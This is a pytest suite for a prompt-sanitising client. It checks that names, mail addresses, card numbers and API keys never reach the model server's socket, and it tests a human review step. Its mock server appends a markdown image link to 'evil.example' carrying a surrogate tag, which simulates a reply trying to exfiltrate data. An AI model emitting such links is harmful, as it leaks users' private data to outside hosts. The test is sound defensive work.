"""`renga ask`, sanitised: what is on the socket, what comes back, and what a person decides before."""

from __future__ import annotations

import asyncio
import base64
import json
import re
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import grpc
import pytest

from renga.boundary import enter
from renga.cli import run
from renga.client.answerers import ByServer, Used
from renga.client.federation import Federation
from renga.errors import RengaError
from renga.models.contract import Clearance, Prompt, Said, Sampling
from renga.protocol import link_pb2 as wire
from renga.protocol.link_pb2_grpc import LinkServicer, add_LinkServicer_to_server

PRIVATE = {
    "name": "Jane Quillfeather",
    "mail": "jane.quill@nordvik-labs.io",
    "phone": "(415) 867-5309",
    "card": "4539 4487 0134 3918",
    "key": "sk-proj-Zx81abQQ72pLmnT0vEw9Kd3RsYuHgF",
}
PROMPT = (
    "Hello, my name is {name}, mail me at {mail} or call {phone}. My card is {card} and OPENAI_API_KEY={key}."
    " Write a reminder to {name}."
).format(**PRIVATE)


class Echo(LinkServicer):
    """Answers with what it was asked, and tries to have it sent elsewhere."""

    def __init__(self) -> None:
        self.prompts: list[str] = []
        self.turns: list[list[wire.Said]] = []

    async def Respond(self, request: wire.RespondRequest, context: Any) -> Any:
        self.prompts.append(request.prompt)
        self.turns.append(list(request.before))
        tag = re.search(r"<PERSON_\w+>", request.prompt)
        evil = f" ![x](https://evil.example/?q={tag[0]})" if tag else ""
        text = f"You said: {request.prompt}{evil}"
        for start in range(0, len(text), 7):
            yield wire.RespondReply(text=text[start : start + 7])
            if not start:
                yield wire.RespondReply(usage=wire.Usage(tokens_read=8, tokens_written=1, seconds=0.05))
        yield wire.RespondReply(usage=wire.Usage(tokens_written=9, seconds=0.1, plan="host"))


class Socket:
    """A server on a real socket without TLS, and a tap before it that keeps every byte of both directions."""

    def __init__(self) -> None:
        self.seen = bytearray()
        self.echo = Echo()
        self.loop = asyncio.new_event_loop()
        threading.Thread(target=self.loop.run_forever, daemon=True).start()
        self.port: int = asyncio.run_coroutine_threadsafe(self._start(), self.loop).result(10)

    async def _start(self) -> int:
        server = grpc.aio.server()
        add_LinkServicer_to_server(self.echo, server)
        self._server, inner = server, server.add_insecure_port("127.0.0.1:0")
        await server.start()

        async def tap(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            far_reader, far_writer = await asyncio.open_connection("127.0.0.1", inner)

            async def carry(source: asyncio.StreamReader, sink: asyncio.StreamWriter) -> None:
                while data := await source.read(65536):
                    self.seen += data
                    sink.write(data)
                    await sink.drain()
                sink.close()

            await asyncio.gather(carry(reader, far_writer), carry(far_reader, writer), return_exceptions=True)

        listening = await asyncio.start_server(tap, "127.0.0.1", 0)
        return int(listening.sockets[0].getsockname()[1])


class Open:
    """Credentials that encrypt nothing, so that the tap can read."""

    def channel(self, address: str) -> grpc.aio.Channel:
        return grpc.aio.insecure_channel(address)


@pytest.fixture
def socket(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Socket]:
    made = Socket()
    (tmp_path / "client" / "keys").mkdir(parents=True)
    (tmp_path / "client" / "keys" / "certificate.pem").write_text("")
    (tmp_path / "client" / "server.json").write_text(json.dumps({"address": f"127.0.0.1:{made.port}"}))
    monkeypatch.setattr("renga.client.federation.load_credentials", lambda keys: Open())
    monkeypatch.setenv("RENGA_VAULT", str(tmp_path / "vault" / "vault.db"))
    (tmp_path / "vault").mkdir(mode=0o700)
    (tmp_path / "vault" / "sanitisation.toml").write_text('style = "tag"\n')
    monkeypatch.chdir(tmp_path)
    yield made
    asyncio.run_coroutine_threadsafe(made._server.stop(0), made.loop).result(10)


def forms(value: str) -> Iterator[bytes]:
    """The encodings in which a value could stand in bytes, lower case."""
    compact = re.sub(r"[^A-Za-z0-9]", "", value)
    for text in {value, compact, value.replace(" ", ""), value[::-1], *value.split()}:
        if len(text) < 5:
            continue
        for codec in ("utf-8", "utf-16-le", "utf-16-be", "utf-32-le"):
            yield text.encode(codec).lower()
        yield quote(text, safe="").encode().lower()
        yield json.dumps(text)[1:-1].encode().lower()
        yield text.encode().hex().encode()
        for lead in range(3):  # base64 at each of its three alignments, less what the neighbours share
            coded = base64.b64encode(b"\0" * lead + text.encode())
            whole = coded[4 if lead else 0 : (lead + len(text.encode())) // 3 * 4]
            if len(whole) >= 8:
                yield whole.lower()


def test_no_detected_value_is_on_the_socket_and_the_answer_is_whole(
    socket: Socket, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    assert enter(["ask", PROMPT], run) == 0
    said = capsys.readouterr()
    (left,) = socket.echo.prompts
    tag = re.search(r"<PERSON_\w+>", left)
    assert tag is not None
    assert said.out.startswith(f"You said: {PROMPT}")
    assert said.out.rstrip().endswith(f"![x](https://evil.example/?q={tag[0]})")  # not restored there
    assert "2 PERSON" in said.err and "1 SECRET" in said.err and "1 not restored, in links" in said.err
    assert b"reminder" in socket.seen  # the tap does read what is said
    everything = bytes(socket.seen).lower()
    for value in PRIVATE.values():
        for form in forms(value):
            assert form not in everything, (value, form)
    kept = b"".join(path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()).lower()
    for value in PRIVATE.values():
        assert all(form not in kept for form in forms(value))
    (entry,) = [json.loads(line) for line in (tmp_path / "client" / "ledger.jsonl").read_text().splitlines()]
    assert entry["kind"] == "prompt" and entry["bytes"] == len(left.encode())


def test_turns_travel_as_turns(socket: Socket, tmp_path: Path) -> None:
    before = (Said("system", "Be kind."), Said("user", "Hello"), Said("assistant", "Good day"))
    federation = Federation(tmp_path / "client")
    reply = federation.ask(Prompt("And now?", Clearance.SANITISED, before), Sampling())
    assert "".join(piece.text for piece in reply) == "You said: And now?"
    (turns,) = socket.echo.turns
    assert [(one.role, one.text) for one in turns] == [(one.role, one.text) for one in before]
    (entry,) = [json.loads(line) for line in (tmp_path / "client" / "ledger.jsonl").read_text().splitlines()]
    assert entry["bytes"] == len(b"Be kind.\nHello\nGood day\nAnd now?")
    with pytest.raises(RengaError):
        federation.ask(Prompt("raw", before=before), Sampling())
    federation.close()


def test_a_conversation_goes_on_with_the_same_surrogates(
    socket: Socket, capsys: pytest.CaptureFixture[str]
) -> None:
    for prompt in ("I am Jane Quillfeather.", "Is Jane Quillfeather well?"):
        assert enter(["ask", prompt, "--conversation", "c"], run) == 0
    first, second = (re.findall(r"<PERSON_\w+>", prompt) for prompt in socket.echo.prompts)
    assert first == second
    capsys.readouterr()
    assert enter(["ask", "I am Jane Quillfeather."], run) == 0
    assert re.findall(r"<PERSON_\w+>", socket.echo.prompts[-1]) != first


def review(monkeypatch: pytest.MonkeyPatch, *lines: str) -> None:
    import io

    monkeypatch.setattr("sys.stdin", io.StringIO("".join(f"{line}\n" for line in lines)))


def test_a_person_reviews_adds_removes_and_decides_for_good(
    socket: Socket, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    prompt = "I am Jane Quillfeather of Project Bluebird, mail jane.quill@nordvik-labs.io"
    review(monkeypatch, "- 9", "always ORG Project Bluebird", "never 1", "q")
    assert enter(["ask", prompt, "--review"], run) == 1
    said = capsys.readouterr()
    assert "nothing was sent" in said.err and "'9' is no number of the list" in said.err and said.out == ""
    assert socket.echo.prompts == []
    rules = (tmp_path / "vault" / "sanitisation.toml").read_text()
    assert "Jane Quillfeather" in rules and "Bluebird" not in rules

    review(monkeypatch, "+ mail", "")
    assert enter(["ask", prompt, "--review"], run) == 0
    (left,) = socket.echo.prompts
    assert re.fullmatch(r"I am Jane Quillfeather of <ORG_\w+>, <PERSON_\w+> <EMAIL_\w+>", left), left
    assert capsys.readouterr().out.startswith(f"You said: {prompt}")


def test_what_the_rules_block_does_not_leave(
    socket: Socket, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    (tmp_path / "vault" / "sanitisation.toml").write_text('[kinds]\nSECRET = "block"\n')
    assert enter(["ask", PROMPT], run) == 1
    said = capsys.readouterr()
    assert "1 SECRET" in said.err and "sk-proj" not in said.err
    assert not socket.seen


def test_a_detector_that_fails_stops_the_prompt(
    socket: Socket, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    class Broken:
        name = "broken"

        def detect(self, text: str, known: object, deadline: object) -> Any:
            raise ValueError(text)

    monkeypatch.setattr("renga.client.sanitisation.desk.detectors", lambda **_: (Broken(),))
    assert enter(["ask", PROMPT], run) == 1
    said = capsys.readouterr()
    assert "broken" in said.err and "Quill" not in said.err + said.out
    assert not socket.seen


def test_what_can_t_be_sent_is_told_and_not_noted_as_sent(
    socket: Socket, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    assert enter(["ask", "half of \ud83d a character"], run) == 2
    assert "half of a character" in capsys.readouterr().err
    assert socket.echo.prompts == [] and not (tmp_path / "client" / "ledger.jsonl").exists()


def test_decisions_are_written_into_a_file_with_comments_and_leave_them(
    socket: Socket, capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    rules = tmp_path / "vault" / "sanitisation.toml"
    rules.write_text('# mine\nnever = ["x"]  # old\n[kinds]\nURL = "allow"  # links are fine\n')
    review(monkeypatch, "never 1", "always ORG Bluebird", "")
    assert enter(["ask", "--review", "I am Jane Quillfeather of Bluebird"], run) == 0
    assert "# mine" in rules.read_text() and "# links are fine" in rules.read_text()
    assert "Bluebird" not in rules.read_text()
    capsys.readouterr()
    assert enter(["ask", "I am Jane Quillfeather of Bluebird"], run) == 0
    assert "hidden: 1 ORG" in capsys.readouterr().err and "Bluebird" not in socket.echo.prompts[-1]
    rules.write_text('# mine\nalways = [{kind = "ORG", text = "Bluebird"}]\n')
    review(
        monkeypatch, "always ORG Jane", ""
    )  # a list in a line: no more can be added without writing it anew
    assert enter(["ask", "--review", "I am Jane Quillfeather of Bluebird"], run) == 0
    assert "by hand" in capsys.readouterr().err and rules.read_text().startswith("# mine\nalways")


def test_who_stops_an_answer_knows_what_it_took(socket: Socket, tmp_path: Path) -> None:
    used = Used("host")
    answer = ByServer(Federation(tmp_path / "client"), "host").answer(
        Prompt("go on", Clearance.PUBLIC), Sampling(max_tokens=9), used
    )
    assert [next(answer).text for _ in range(2)] == ["You sai", "d: go o"]
    answer.close()  # type: ignore[attr-defined]
    assert (used.prompt_tokens, used.completion_tokens) == (7, 2) and used.seconds > 0
